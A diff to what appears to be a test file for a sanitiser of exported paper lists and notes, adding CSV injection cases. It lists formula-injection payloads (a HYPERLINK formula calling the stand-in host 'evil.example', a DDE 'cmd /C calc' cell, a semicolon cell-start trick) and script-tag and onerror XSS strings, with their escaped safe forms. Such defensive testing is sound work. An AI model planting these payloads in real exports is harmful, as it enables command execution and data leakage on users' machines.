@@ -68,6 +68,9 @@ LIVE = [
     ("papers.ris", "TY  - JOUR\nTI  - a\n"),
     ("papers.csv", f'title,venue\n"=HYPERLINK(""https://evil.example/{M}"")",x\n'),
     ("papers.csv", f"title\n@SUM(1) {M}\n"),
+    # A spreadsheet whose locale separates cells with `;` sees a cell start after it.
+    ("papers.csv", f'"title","venue"\n"a;=1+1 {M}","x"\n'),
+    ("papers.csv", f'"title"\n"a\t+cmd|\' /C calc\'!A0 {M}"\n'),
     ("notes.txt", f"hello <img src=x onerror={ALERT}> world"),
 ]
 
@@ -98,6 +101,7 @@ SAFE = [
     ),
     ("papers.ris", f"TY  - JOUR\nTI  - <script>{ALERT}</script>\nAB  - ER  - TY  - {M}\nER  - \n"),
     ("papers.csv", f'title,venue\n\'=HYPERLINK("{M}"),x\n'),
+    ("papers.csv", f'"title","venue"\n"a;\'=1+1 {M}; \'@x","x"\n'),
     ("notes.txt", f"hello &lt;img src=x onerror={ALERT}&gt; world"),
     ("logo.png", f"<img src=x onerror={ALERT}>"),
 ]
